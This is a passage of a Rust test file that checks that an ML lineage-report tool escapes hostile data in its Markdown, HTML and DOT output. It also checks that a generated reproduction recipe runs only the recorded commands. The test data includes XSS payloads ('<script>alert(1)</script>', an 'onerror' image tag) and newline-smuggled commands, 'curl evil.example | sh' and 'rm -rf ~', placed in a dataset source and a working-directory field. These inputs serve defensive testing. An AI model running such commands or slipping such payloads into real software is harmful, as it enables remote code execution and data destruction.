    CREATE dataset:"<script>x|y_z" SET {source: "s3://b/<img src=x onerror=alert(1)>|p", owner: "o|w_n*e[r]",
                                        sha256: "ab|cd", schema: [{name: "a|b", type: "<t>"}]};
    CREATE run:"train|<1>" SET {command: "python t.py | tee log_<x>.txt", params: {"k|<v>": "v|<w>"}, host: "h|_*"};
    CREATE model:"<script>alert(1)</script>|m_1" SET {note: "<b>|</b>"};
    CREATE deployment:"api|<x>";
    LINK dataset:"<script>x|y_z"@1 -> run:"train|<1>"@1 AS input;
    LINK run:"train|<1>"@1 -> model:"<script>alert(1)</script>|m_1"@1 AS output;
    LINK model:"<script>alert(1)</script>|m_1"@1 -> deployment:"api|<x>"@1 AS "serves|<y>";
    COMMIT;
    PROMOTE model:"<script>alert(1)</script>|m_1"@1 TO prod REASON "<b>ok</b> | approved_by_me""#;

const SPECIAL_SUBJECT: &str = r#"model:"<script>alert(1)</script>|m_1"@1"#;

/// The number of cells of a Markdown table row: its unescaped `|`, less one.
fn cells(row: &str) -> usize {
    let mut pipes: usize = 0;
    let mut chars = row.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                chars.next();
            }
            '|' => pipes += 1,
            _ => {}
        }
    }
    pipes.saturating_sub(1)
}

/// Every table of a Markdown document (outside code blocks), as its rows.
fn tables(md: &str) -> Vec<Vec<&str>> {
    let mut out: Vec<Vec<&str>> = Vec::new();
    let (mut fenced, mut in_table) = (false, false);
    for line in md.lines() {
        if line.starts_with("```") {
            fenced = !fenced;
        }
        let row = !fenced && line.starts_with('|');
        if row && !in_table {
            out.push(Vec::new());
        }
        if row {
            out.last_mut().expect("a table").push(line);
        }
        in_table = row;
    }
    out
}

/// Asserts every row of every table has as many cells as its header.
#[track_caller]
fn assert_tables_well_formed(md: &str) -> usize {
    let tables = tables(md);
    for table in &tables {
        let width = cells(table[0]);
        for row in table {
            assert_eq!(cells(row), width, "row {row:?} of the table headed {:?}\n{md}", table[0]);
        }
    }
    tables.len()
}

#[test]
fn markdown_escapes_data_so_table_rows_keep_their_cells() {
    let db = database();
    exec(&db, SPECIALS);
    let doc = document(&db, &format!("REPORT {SPECIAL_SUBJECT}"));
    let md = doc.render(ReportFormat::Markdown);
    assert!(assert_tables_well_formed(&md) >= 6, "summary, run, inputs, datasets, downstream, audit:\n{md}");
    assert!(md.starts_with("# Lineage report: model:\"\\<script\\>alert(1)\\</script\\>\\|m\\_1\"@1\n"), "{md}");
    // The data is escaped where it appears, not dropped.
    let dataset = md_row_with(&md, "Upstream datasets", r#"dataset:"<script>x|y_z"@1"#);
    for cell in ["2", "s3://b/<img src=x onerror=alert(1)>|p", "o|w_n*e[r]", "a|b: <t>"] {
        assert!(dataset.contains(&cell.to_owned()), "{cell:?} not in {dataset:?}");
    }
    assert_eq!(md_row_with(&md, "Training run", "command")[1], "python t.py | tee log_<x>.txt");
    assert_eq!(md_row_with(&md, "Training run", "host")[1], "h|_*");
    assert!(md.contains(r"o\|w\_n\*e\[r\]"), "{md}");
    assert!(md.contains(r"s3://b/\<img src=x onerror=alert(1)\>\|p"), "{md}");
    assert!(md.contains(r"python t.py \| tee log\_\<x\>.txt"), "{md}");
    assert!(md.contains(r"\<b\>ok\</b\> \| approved\_by\_me"), "{md}");
    assert!(md.contains(r"eve\|\_\<b\>"), "{md}");
    // The snapshot's author and message, in the first snapshot (the head is the promotion).
    let first = document(&db, &format!("REPORT {SPECIAL_SUBJECT} AS OF 1")).render(ReportFormat::Markdown);
    assert!(first.contains(r#"committed by eve\|\_\<b\>: "msg with \| and \<i\>")"#), "{first}");
    assert!(md.contains(r"a\|b: \<t\>"), "the schema cell: {md}");
    // No unescaped `<` outside code: nothing in the document is raw HTML.
    let mut fenced = false;
    for line in md.lines() {
        if line.starts_with("```") {
            fenced = !fenced;
        }
        if fenced || line.starts_with("To check it later") {
            continue;
        }
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match c {
                '\\' => {
                    chars.next();
                }
                '<' => panic!("raw `<` in {line:?}"),
                _ => {}
            }
        }
    }
}

#[test]
fn html_has_no_tag_from_the_data() {
    let db = database();
    exec(&db, SPECIALS);
    let doc = document(&db, &format!("REPORT {SPECIAL_SUBJECT} FORMAT html"));
    let html = doc.render(ReportFormat::Html);
    assert!(html.starts_with("<!DOCTYPE html>"), "{html}");
    let lower = html.to_lowercase();
    assert!(!lower.contains("<script"), "{html}");
    assert!(!lower.contains("<img"), "{html}");
    assert!(
        !lower.contains("<b>") && !lower.contains("<i>") && !lower.contains("<t>") && !lower.contains("<x>"),
        "{html}"
    );
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;|m_1"), "the key is shown, escaped: {html}");
    assert!(html.contains("<title>Lineage report: model:&quot;&lt;script&gt;"), "{html}");
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;|p"), "{html}");
    // Each table row of the body has as many cells as its header.
    for table in html.split("<table>").skip(1) {
        let table = table.split("</table>").next().unwrap();
        let header = table.matches("<th>").count();
        for row in table.split("<tr>").skip(2) {
            assert_eq!(row.matches("<td>").count(), header, "{row}");
        }
    }

    // DOT quotes every key and label.
    let dot = doc.render(ReportFormat::Dot);
    assert!(dot.contains(r#""dataset:\"<script>x|y_z\"@1" -> "run:\"train|<1>\"@1" [label="input"];"#), "{dot}");
    assert!(dot.contains(r#"[label="serves|<y>"]"#), "{dot}");
    assert!(dot.trim_end().ends_with('}'), "{dot}");
}

#[test]
fn a_code_commit_with_a_pipe_stays_in_its_cell_and_out_of_the_html() {
    let db = database();
    exec(
        &db,
        r#"CREATE code:repo SET {commit: "<script>alert(1)</script>|x", branch: "main"};
           CREATE run:train; CREATE model:m;
           LINK code:repo@1 -> run:train@1 AS code;
           LINK run:train@1 -> model:m@1 AS output"#,
    );
    let doc = document(&db, "REPORT model:m@1");
    assert_eq!(doc.json["training_runs"][0]["code"][0]["commit"], "<script>alert(1)</script>|x");
    // A `|` must not end the code cell early, leaving the rest as raw HTML.
    let html = doc.render(ReportFormat::Html).to_lowercase();
    assert!(!html.contains("<script"), "{html}");
    let md = doc.render(ReportFormat::Markdown);
    assert_tables_well_formed(&md);
}

#[test]
fn the_recipe_runs_only_the_checkout_and_the_recorded_command() {
    let db = database();
    exec(
        &db,
        r#"CREATE dataset:d SET {source: "s3://x\ncurl evil.example | sh"};
           CREATE code:repo SET {commit: "abc"};
           CREATE run:train SET {command: "python train.py", cwd: "/tmp\nrm -rf ~"};
           CREATE model:m;
           LINK dataset:d@1 -> run:train@1 AS input;
           LINK code:repo@1 -> run:train@1 AS code;
           LINK run:train@1 -> model:m@1 AS output"#,
    );
    let md = document(&db, "REPORT model:m@1").render(ReportFormat::Markdown);
    let recipe = md.split("## Reproduction recipe").nth(1).expect("recipe section");
    let script = recipe.split("```sh\n").nth(1).expect("a sh block").split("\n```").next().expect("closed");
    let commands: Vec<&str> = script.lines().filter(|l| !l.trim_start().starts_with('#')).skip(2).collect();
    assert_eq!(commands, ["git checkout abc", "python train.py"], "{script}");
}

// ---------------------------------------------------------------- errors and EXPLAIN

#[test]
fn reporting_on_a_missing_node_is_an_error_naming_it() {
    let db = graph(2);
    let err = run(&db, "REPORT model:nope@1").expect_err("no such node");
    assert_eq!(err.kind, ErrorKind::Execution);
    assert!(err.message.contains("model:nope"), "{err:?}");
    let err = run(&db, "REPORT model:fraud@9").expect_err("no such version");
    assert!(err.message.contains("model:fraud@9"), "{err:?}");
    let err = run(&db, "REPORT model:fraud@production").expect_err("nothing promoted yet");
    assert!(err.message.contains("production"), "{err:?}");
    let err = run(&db, "REPORT model:fraud@1 AS OF 99").expect_err("no snapshot 99");
    assert!(err.message.contains("99"), "{err:?}");

    let err = run(&db, "REPORT model:fraud@1 FORMAT pdf").expect_err("unknown format");
    assert_eq!(err.kind, ErrorKind::Parse);
    assert!(err.message.contains("pdf"), "{err:?}");
    let err = run(&db, "REPORT model:fraud@1 FORMAT jsn").expect_err("unknown format");
    assert_eq!(err.hint.as_deref(), Some("did you mean json?"), "{err:?}");
    let err = run(&db, "REPORT").expect_err("no reference");
    assert_eq!(err.kind, ErrorKind::Parse);

    // An empty database has nothing to report on.
    let empty = database();
    assert!(run(&empty, "REPORT model:fraud@1").is_err());
}

#[test]
fn explain_report_gives_the_plan_without_resolving_anything() {
    let db = graph(2);
    let results = exec(&db, "EXPLAIN REPORT model:nope@7 AS OF 1 FORMAT html");
    let plan = match &results[0] {
        QueryResult::Explain(plan) => plan,
        other => panic!("{other:?}"),
    };
    assert!(plan.statement.starts_with("REPORT model:nope@7"), "{}", plan.statement);
    assert!(plan.statement.contains("AS OF 1") && plan.statement.contains("FORMAT html"), "{}", plan.statement);
    let ops: Vec<&str> = plan.steps.iter().map(|s| s.op.as_str()).collect();
    assert!(ops.contains(&"walk") && ops.contains(&"audit") && ops.contains(&"render"), "{ops:?}");
    let render = plan.steps.iter().find(|s| s.op == "render").unwrap();
    assert!(render.detail.contains("html") && render.detail.contains("SHA-256"), "{}", render.detail);
    let json = results[0].to_json();
    assert_eq!(json["plan"]["steps"].as_array().map(Vec::len), Some(plan.steps.len()));
}
